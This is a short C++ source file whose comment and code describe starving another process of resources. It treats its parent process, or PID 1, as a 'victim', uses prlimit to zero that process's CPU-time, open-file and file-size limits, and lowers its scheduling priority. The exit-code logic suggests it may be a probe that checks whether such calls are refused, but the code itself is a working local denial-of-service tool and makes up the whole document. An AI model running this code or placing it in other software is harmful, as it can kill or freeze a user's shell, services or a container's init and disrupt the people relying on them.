// SPDX-License-Identifier: MIT
// Leaves its parent, or the init of its namespace, without CPU time, descriptors and priority.
#include <initializer_list>
#include <sys/resource.h>
#include <unistd.h>

int main() {
  int const victim = getppid() > 0 ? getppid() : 1;
  rlimit const nothing{};
  int refused = 0;
  for (auto const resource : {RLIMIT_CPU, RLIMIT_NOFILE, RLIMIT_FSIZE})
    refused += prlimit(victim, resource, &nothing, nullptr) != 0;
  setpriority(PRIO_PROCESS, static_cast<id_t>(victim), 19);
  return refused == 3 || victim == 1 ? 0 : 1;
}
